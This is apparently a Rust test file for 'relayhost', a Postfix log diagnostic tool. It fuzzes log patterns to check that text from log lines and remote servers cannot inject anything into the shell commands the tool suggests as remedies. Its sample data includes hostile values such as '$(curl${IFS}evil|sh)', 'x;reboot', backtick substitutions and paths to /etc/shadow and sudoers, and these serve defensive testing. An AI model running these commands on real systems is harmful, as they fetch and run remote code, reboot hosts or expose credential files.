//! Whose words are read as whose, and what a stranger's words become in what root is told to type: for each entry of the
//! catalogue, with lines made of its own patterns, hostile values in their groups, and replies that look like a daemon's.
#![allow(
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test that cannot go on must stop there"
)]

#[path = "words/shell.rs"]
mod shell;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::strategy::ValueTree;
use proptest::string::{bytes_regex_parsed, string_regex};
use proptest::test_runner::TestRunner;
use regex::Regex;
use regex_syntax::ParserBuilder;
use regex_syntax::hir::{Hir, HirKind};
use relayhost::error::{Error, typed};
use relayhost::model::causes::catalogue::{Entry, Pattern, catalogue, fitting};
use relayhost::model::causes::words::{Speaker, Words};
use relayhost::model::causes::{About, Circumstances, diagnose, explain};
use relayhost::model::log::follow::{Follower, Question};
use relayhost::model::log::report::{Owner, Report};
use relayhost::model::log::stamp::Calendar;
use relayhost::model::log::{Line, parse_line};
use relayhost::model::message::trail::{Author, Standing, Trail, Word};
use shell::{complaint, entry_of};

/// Lines of each entry.
const LINES: usize = 24;

fn text(expression: &str) -> impl Strategy<Value = String> {
    string_regex(expression).unwrap()
}

/// What nobody should type, and what looks as if one could.
fn value() -> impl Strategy<Value = String> {
    let known = select(vec![
        "$(curl${IFS}evil|sh)",
        "x;reboot",
        "/etc/shadow;reboot",
        "/etc/shadow",
        "/etc/sudoers.d/x",
        "/etc/postfix/../shadow",
        "/etc/postfix/main.cf;reboot",
        "/etc/tokens/../sudoers.d/x",
        "/usr/lib64/sasl2/../../bin/sh",
        "-oProxyCommand=reboot",
        "--eval=x",
        "`reboot`",
        "x`id`x",
        "a&b",
        "a>b",
        "a'b",
        "a\"b",
        "~root",
        "*",
        "{1}",
        "{user}",
        "{relayhost}",
        "..",
        "",
    ])
    .prop_map(str::to_owned);
    let good = select(vec![
        "/etc/postfix/generic",
        "/etc/postfix/main.cf",
        "/etc/tokens/u@x",
        "/usr/lib64/sasl2/libplain.so.3",
        "lmdb",
        "relay.example.com",
        "root",
        "smtp_helo_name",
        "u@example.com",
    ])
    .prop_map(str::to_owned);
    prop_oneof![
        5 => good,
        6 => known.clone(),
        2 => (known.clone(), text("[ -~]{1,3}"), known).prop_map(|(a, b, c)| a + &b + &c),
        1 => text("[ -~]{0,12}"),
        1 => text("[!-~]{1,400}"),
        1 => text("\\PC{0,8}"),
        1 => text("[a-z/.-]{1,20}"),
    ]
}

/// The expression without anchors and boundaries, for which nothing can be generated.
fn without_looks(hir: &Hir) -> Hir {
    match hir.kind() {
        HirKind::Look(_) => Hir::empty(),
        HirKind::Repetition(repetition) => {
            let mut repetition = repetition.clone();
            repetition.sub = Box::new(without_looks(&repetition.sub));
            Hir::repetition(repetition)
        }
        HirKind::Capture(capture) => without_looks(&capture.sub),
        HirKind::Concat(parts) => Hir::concat(parts.iter().map(without_looks).collect()),
        HirKind::Alternation(parts) => Hir::alternation(parts.iter().map(without_looks).collect()),
        HirKind::Empty | HirKind::Literal(_) | HirKind::Class(_) => hir.clone(),
    }
}

/// Texts that match the pattern, most of them with a hostile value in place of its first group.
fn text_of(pattern: &Pattern) -> impl Strategy<Value = String> {
    let parsed = ParserBuilder::new().unicode(false).utf8(false).build().parse(pattern.as_str()).unwrap();
    let regex = regex::bytes::RegexBuilder::new(pattern.as_str()).unicode(false).build().unwrap();
    let begin = if pattern.as_str().starts_with('^') { "" } else { "(warning: |fatal: |error: )?" };
    let end = if pattern.as_str().ends_with('$') { "" } else { "( [ -~]{0,9})?" };
    let text = (text(begin), bytes_regex_parsed(&without_looks(&parsed)).unwrap(), text(end))
        .prop_map(|(begin, bytes, end)| [begin.as_bytes(), &bytes, end.as_bytes()].concat());
    (text, value()).prop_map(move |(text, value)| {
        let line = |bytes: &[u8]| String::from_utf8_lossy(bytes).replace('\n', " ");
        let Some(group) = regex.captures(&text).and_then(|found| found.get(1)) else { return line(&text) };
        let hostile = [&text[..group.start()], value.as_bytes(), &text[group.end()..]].concat();
        // Some groups take a few words alone.
        line(if regex.is_match(&hostile) { &hostile } else { &text })
    })
}

fn draw<S: Strategy>(strategy: &S, runner: &mut TestRunner) -> S::Value {
    strategy.new_tree(runner).unwrap().current()
}

/// The system's own line.
const SYSTEM: &str = "Nov 24 08:00:00 h kernel: ";
/// A daemon's.
const DAEMON: &str = "Nov 24 08:00:00 h postfix/smtp[7]: ";

fn line_of(speaker: Speaker, text: &str) -> String {
    format!("{}{text}", if speaker == Speaker::System { SYSTEM } else { DAEMON })
}

fn words(line: &str) -> Option<Words<'_>> {
    let line = parse_line(line).or_else(|| Line::of_system(line))?;
    // What `Words` takes is the line's text; the line is borrowed from it.
    Some(Words::of_line(&line, line.text))
}

/// Every entry, read from lines of its own patterns: whatever was caught, each remedy is its template with harmless
/// words in it. Circumstances come from the log as well.
#[test]
fn no_caught_text_changes_a_command() {
    let mut runner = TestRunner::deterministic();
    let (mut filled, mut refused) = (BTreeMap::<&str, usize>::new(), BTreeMap::<&str, usize>::new());
    let mut read = BTreeMap::<&str, usize>::new();
    for entry in catalogue() {
        for (speaker, patterns) in entry.patterns() {
            for pattern in patterns {
                let (text, hostile) = (text_of(pattern), vec(value(), 3));
                let lines = if entry.remedy.contains("{1}") { LINES * 8 } else { LINES };
                for number in 0..lines {
                    let text = draw(&text, &mut runner);
                    // A stranger's words stand in a daemon's sentence.
                    let framed = speaker == Speaker::Stranger && !pattern.as_str().starts_with('^');
                    let frame = if framed { draw(&select(FRAMES.to_vec()), &mut runner) } else { "%" };
                    let line = line_of(speaker, &frame.replace('%', &text));
                    let about = draw(&hostile, &mut runner);
                    let about = About {
                        relay: Some((&about[0], "", 587)),
                        sender: &about[1],
                        to: &about[2],
                        host: "",
                    };
                    let Some(words) = words(&line) else { continue };
                    let Some(found) = entry.captures(words) else { continue };
                    *read.entry(&entry.id).or_default() += 1;
                    let cause = explain(entry, &[words], &Circumstances::unknown(&about));
                    assert_eq!(complaint(entry, &cause), None, "{}: {line}\n{cause:#?}", entry.id);
                    if let (Some(form), Some(first)) = (entry.form, found.get(1)) {
                        let first = String::from_utf8_lossy(first.as_bytes());
                        let count = if form.fits(&first) { &mut filled } else { &mut refused };
                        *count.entry(&entry.id).or_default() += 1;
                        // What fits is shown as it is, what does not in quotes.
                        assert!(
                            form.fits(&first) || first.is_empty() || cause.cause.contains('"'),
                            "{cause:?}"
                        );
                    }
                    if number % 15 == 0
                        && let Some(named) = diagnose(&[words], &Circumstances::unknown(&about))
                    {
                        let of = entry_of(&named.id).unwrap();
                        assert_eq!(complaint(of, &named), None, "{}: {line}\n{named:#?}", named.id);
                    }
                }
            }
        }
    }
    // The property was tried: on every entry, and those that put what they caught into a remedy met both kinds of it.
    for entry in catalogue() {
        let of = |counts: &BTreeMap<&str, usize>| counts.get(entry.id.as_str()).copied().unwrap_or_default();
        assert!(of(&read) >= LINES / 4, "{}: {} lines", entry.id, of(&read));
        let pattern_takes_anything = entry
            .patterns()
            .iter()
            .flat_map(|(_, all)| *all)
            .any(|one| one.as_str().contains("(\\S+") || one.as_str().contains("([^"));
        if entry.remedy.contains("{1}") && pattern_takes_anything {
            assert!(of(&refused) > 5, "{}: {} refused", entry.id, of(&refused));
        }
    }
    let with_commands: BTreeSet<&str> = catalogue()
        .iter()
        .filter(|entry| entry.remedy.contains("{1}"))
        .map(|entry| entry.id.as_str())
        .collect();
    let met: BTreeSet<&str> = filled.keys().copied().filter(|id| with_commands.contains(id)).collect();
    assert!(with_commands.len() >= 14 && met == with_commands, "{met:?} of {with_commands:?}");
}

/// How Postfix repeats what a stranger said, with `%` for that.
const FRAMES: [&str; 25] = [
    "host r[192.0.2.1] said: 550 % (in reply to RCPT TO command)",
    "host r[192.0.2.1] said: 450-4.7.1 % 450 4.7.1 x (in reply to end of DATA command)",
    "host r[192.0.2.1] refused to talk to me: 554 %",
    "4Bd2c1x0z: host r[192.0.2.1] refused to talk to me: 421 %",
    "TLS is required, but host r[192.0.2.1] refused to start TLS: 454 %",
    "SASL authentication failed; server r[192.0.2.1] said: 535 %",
    "SASL [CACHED] authentication failed; server r[192.0.2.1] said: 535 %",
    "SASL authentication failed; non-empty initial PLAIN challenge from server r[192.0.2.1]: %",
    "warning: 4Bd2c1x0z: non-ESMTP response from r[192.0.2.1]:587: %",
    "warning: r[192.0.2.1]:587: response longer than 2048: %...",
    "warning: r[192.0.2.1]:587 offered no supported AUTH mechanisms: '%'",
    "warning: bad EHLO SIZE limit \"%\" from r[192.0.2.1]:587",
    "certificate verification failed for r[192.0.2.1]:587: untrusted issuer /CN=%",
    "Server certificate not verified: r[192.0.2.1]:587 has one for %",
    "Host or domain name not found. Name service error for name=% type=A: Host not found",
    "Domain % does not accept mail (nullMX)",
    "warning: valid_hostname: invalid character 36(decimal): %",
    "mail for % loops back to myself",
    "unknown user: \"%\"",
    "< r[192.0.2.1]:587: 554 %",
    "input attribute value: %",
    "4Bd2c1x0z: from=<%>, size=1, nrcpt=1 (queue active)",
    "4Bd2c1x0z: warning: header Subject: % from local; from=<a@b> to=<c@d>",
    "warning: Illegal address syntax from x[192.0.2.9] in MAIL command: %",
    "NOQUEUE: reject: RCPT from x[192.0.2.9]: 554 5.7.1 <%>: Relay access denied; from=<a@b>",
];

/// What a stranger puts before what looks like a daemon's line.
const PREFIXES: [&str; 8] = [
    "",
    "x said: ",
    "? warning: ",
    "4Bd2c1x0z: ",
    ") Nov 24 08:00:00 h postfix/smtp[7]: fatal: ",
    "refused to talk to me: 421 ",
    "untrusted issuer ",
    " kernel: ",
];

/// The entries that read a daemon's or the system's own words, and no stranger's.
fn own_alone() -> impl Iterator<Item = &'static Entry> {
    catalogue().iter().filter(|entry| entry.stranger.is_empty())
}

fn owns(line: &str) -> BTreeSet<&'static str> {
    let all = fitting(&[words(line).unwrap()]);
    all.filter(|entry| entry.stranger.is_empty()).map(|entry| entry.id.as_str()).collect()
}

/// Whatever a stranger says, a daemon has said no more than without it. The same through all that reads a log.
#[test]
fn a_stranger_cannot_speak_for_a_daemon() {
    let mut runner = TestRunner::deterministic();
    let mut tried = BTreeMap::<&str, usize>::new();
    let neutral: Vec<_> =
        FRAMES.iter().map(|frame| owns(&line_of(Speaker::Daemon, &frame.replace('%', "no")))).collect();
    for entry in own_alone() {
        for (_, patterns) in entry.patterns() {
            for (number, text) in patterns.iter().map(text_of).enumerate() {
                // Each frame, but not each for every pattern.
                let frames = FRAMES.iter().zip(&neutral).skip((entry.id.len() + number) % 3).step_by(3);
                for (frame, neutral) in frames {
                    let prefix = draw(&select(PREFIXES.to_vec()), &mut runner);
                    let said = format!("{prefix}{}", draw(&text, &mut runner));
                    let line = line_of(Speaker::Daemon, &frame.replace('%', &said));
                    assert_eq!(owns(&line), *neutral, "{}: {line}", entry.id);
                    let count = tried.entry(&entry.id).or_default();
                    *count += 1;
                    if !count.is_multiple_of(3) {
                        continue;
                    }
                    let (id, trail) = (report_of(frame, &said), trail_of(frame, &said));
                    for id in [id, trail].into_iter().flatten().filter(|id| !neutral.contains(id.as_str())) {
                        let named = entry_of(&id).unwrap_or_else(|| panic!("{id}"));
                        assert!(!named.stranger.is_empty(), "{id}: {line}");
                    }
                }
            }
        }
    }
    assert!(
        tried.len() > 60 && own_alone().all(|entry| tried[entry.id.as_str()] >= FRAMES.len() / 3),
        "{tried:?}"
    );
}

/// A record of an attempt whose reason is this; or if it is no reason, a line before one that says nothing.
fn log_of(frame: &str, said: &str) -> String {
    let text = frame.replace('%', said);
    let is_line = |head: &&str| frame.starts_with(*head);
    let is_line = ["warning: ", "4Bd2c1x0z: ", "< ", "input ", "NOQUEUE: "].iter().any(is_line);
    let before = if is_line { format!("{DAEMON}{text}\n") } else { String::new() };
    let reason = if is_line { "no" } else { text.as_str() };
    format!(
        "Nov 24 08:00:00 h postfix/cleanup[2]: 4Bd2c1x0z: message-id=<m@h>\n{before}{DAEMON}4Bd2c1x0z: to=<o@x>, relay=r[192.0.2.1]:587, delay=1, delays=0/0/1/0, dsn=4.0.0, status=deferred ({reason})\n"
    )
}

fn report(log: &str) -> Report {
    let circumstances = |about: &About| Circumstances::unknown(about);
    let question = Question { since: None, elsewhere: Vec::new(), circumstances: &circumstances };
    let mut follower = Follower::new(question);
    follower.source(Calendar::utc(1_795_507_200));
    follower.feed(log.as_bytes());
    Report::new(&follower, &Owner::default())
}

fn report_of(frame: &str, said: &str) -> Option<String> {
    let report = report(&log_of(frame, said));
    let failure = report.failures.iter().find(|failure| failure.tally.messages > 0)?;
    Some(failure.id.clone()).filter(|id| id != "unknown")
}

fn trail_of(frame: &str, said: &str) -> Option<String> {
    let mut trail = Trail::new("m@h", "o@x", Author::Postfix);
    log_of(frame, said).lines().for_each(|line| trail.feed(line));
    let Word::Said(found) = trail.word(&Standing::default(), |_, _, _| true) else {
        panic!("the trail has no word of {frame}");
    };
    let about = About { relay: None, sender: "", to: "", host: "" };
    diagnose(&trail.evidence(Some(found.attempt())), &Circumstances::unknown(&about)).map(|cause| cause.id)
}

/// Each log of the corpus with hostile values in place of its words.
#[test]
fn no_log_changes_a_command() {
    let mut runner = TestRunner::deterministic();
    let (value, at) = (value(), any::<proptest::sample::Index>());
    let mut named = BTreeSet::new();
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    for file in fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path()) {
        if file.extension().is_none_or(|end| end != "log") {
            continue;
        }
        let log = String::from_utf8_lossy(&fs::read(&file).unwrap()).into_owned();
        let lines: Vec<&str> = log.lines().take(40).collect();
        for _ in 0..4 {
            let changed: String = lines
                .iter()
                .map(|line| {
                    let mut parts: Vec<&str> = line.split(' ').collect();
                    let (value, place) =
                        (draw(&value, &mut runner), draw(&at, &mut runner).index(parts.len()));
                    // The head has to stay, or nothing is read.
                    if place > 5 {
                        parts[place] = &value;
                    }
                    parts.join(" ").replace('\n', " ") + "\n"
                })
                .collect();
            for failure in report(&changed).failures.iter().filter(|failure| failure.id != "unknown") {
                let Some(entry) = entry_of(&failure.id) else { continue };
                let about = About { relay: None, sender: "", to: "", host: "" };
                let mut cause = explain::<&str>(entry, &[], &Circumstances::unknown(&about));
                (cause.cause, cause.remedy) = (failure.cause.clone(), failure.remedy.clone());
                assert_eq!(complaint(entry, &cause), None, "{}: {changed}", file.display());
                named.insert(failure.id.clone());
            }
        }
    }
    assert!(named.len() > 100, "{named:?}");
}

/// The oracle finds what it is there for.
#[test]
fn the_oracle_finds_a_command_that_was_changed() {
    let entry = entry_of("sasl-plugin-broken").unwrap();
    let about = About { relay: None, sender: "", to: "", host: "" };
    let good =
        explain(entry, &["unable to dlopen /usr/lib64/sasl2/x.so: y"], &Circumstances::unknown(&about));
    assert_eq!(complaint(entry, &good), None);
    for bad in [
        "$(curl${IFS}evil|sh)",
        "x;reboot",
        "x y",
        "-x",
        "/usr/lib64/../bin/sh",
        "/etc/shadow",
        "x`id`",
        "x'y",
        "",
    ] {
        let mut cause = good.clone();
        cause.remedy = cause.remedy.replace("/usr/lib64/sasl2/x.so", bad);
        assert!(complaint(entry, &cause).is_some(), "{bad}");
        cause.remedy.clone_from(&good.remedy);
        cause.cause = format!("{} `{bad}`", cause.cause);
        assert!(complaint(entry, &cause).is_some(), "{bad}");
    }
}

/// Names that somebody else may have chosen.
const HOSTILE: [&str; 8] =
    ["/srv/a b", "/srv/$(touch pwned);x", "-x", "/it's", "/a`reboot`b", "/new\nline", "/*", "/\u{202e}\\n"];

/// Whether bash reads exactly these names where they are typed.
#[test]
fn a_name_is_one_word_of_bash_and_names_what_it_is_to_name() {
    use std::os::unix::ffi::OsStrExt;
    let broken = std::ffi::OsStr::from_bytes(b"/a\xff`'\\b");
    for name in HOSTILE.iter().map(std::ffi::OsStr::new).chain([broken]) {
        let word = typed(name);
        assert!(!word.contains('`') && !word.contains(char::is_control), "{word}");
        let bash = Command::new("bash").args(["-c", &format!("printf '<%s>' {word}")]).output().unwrap();
        let back =
            [if name.as_bytes().starts_with(b"-") { &b"<./"[..] } else { b"<" }, name.as_bytes(), b">"];
        assert_eq!(bash.stdout, back.concat(), "{word}");
    }
}

/// Each error that has a name which somebody else may have chosen gives it in its remedy as one word of a shell.
#[test]
fn the_remedies_of_errors_type_names() {
    for name in HOSTILE {
        let io = |kind| Error::Io { action: "read", path: name.into(), source: std::io::Error::from(kind) };
        let missing = vec![name.to_owned()];
        let errors = [
            io(std::io::ErrorKind::NotFound),
            io(std::io::ErrorKind::Other),
            Error::TooLarge { path: name.into(), limit: 1 },
            Error::Symlink { path: name.into() },
            Error::Image { missing: missing.clone() },
            Error::NotInstalled {
                missing,
                command: String::new(),
                status: String::new(),
                output: String::new(),
            },
            Error::MapDiffers { database: name.into() },
        ];
        for error in errors {
            let hint = error.hint();
            assert!(hint.contains(&typed(name)), "{hint}");
            assert!(!hint.replace(&typed(name), "").contains(name), "{hint}");
        }
    }
}

/// What is filled into a command of a remedy, in all sources: a word made by `typed`, or a number of ours.
#[test]
fn what_is_filled_into_a_command_is_typed() {
    // Numbers and queue ids; what was made by `typed` under another name; a constant.
    let plain = [
        "pid",
        "id",
        "queue_id",
        "generation",
        "generation:04",
        "number",
        "bits",
        "SUMS",
        "command",
        "parameter",
    ];
    let command = Regex::new(
        r"`(?:chmod|chown|rm|mv|ls|cd|cat|diff|grep|yum|dnf|rpm|install|RUN|post[a-z]+|systemctl|relayhost|kill|setfacl) [^`]*\{[^`]*`",
    )
    .unwrap();
    let hole = Regex::new(r"\{([a-z_A-Z0-9.:]*)\}").unwrap();
    let mut found = 0;
    for (path, text) in sources(&Path::new(env!("CARGO_MANIFEST_DIR")).join("src")) {
        let text = text.split("#[cfg(test)]").next().unwrap();
        for place in command.find_iter(text) {
            let line = text[..place.start()].rsplit('\n').next().unwrap();
            if line.trim_start().starts_with("//") {
                continue;
            }
            found += 1;
            let shown = format!("{}: {}", path.display(), place.as_str());
            let arguments: String = text[place.end()..].chars().take(300).collect();
            for hole in hole.captures_iter(place.as_str()).map(|hole| hole[1].to_owned()) {
                let is_given = hole.is_empty() || hole.starts_with(|c: char| c.is_ascii_digit());
                let is_typed = if is_given {
                    arguments.contains("typed")
                } else {
                    plain.contains(&hole.as_str()) || text.contains(&format!("{hole} = typed("))
                };
                assert!(is_typed, "`{hole}` of {shown}");
            }
        }
    }
    assert!(found >= 15, "only {found} commands were found");
}

fn sources(directory: &Path) -> Vec<(PathBuf, String)> {
    let inside = |entry: fs::DirEntry| {
        let path = entry.path();
        if path.is_dir() { sources(&path) } else { vec![(path.clone(), fs::read_to_string(path).unwrap())] }
    };
    let all = fs::read_dir(directory).unwrap().flat_map(|entry| inside(entry.unwrap()));
    all.filter(|(path, _)| path.extension().is_some_and(|end| end == "rs")).collect()
}
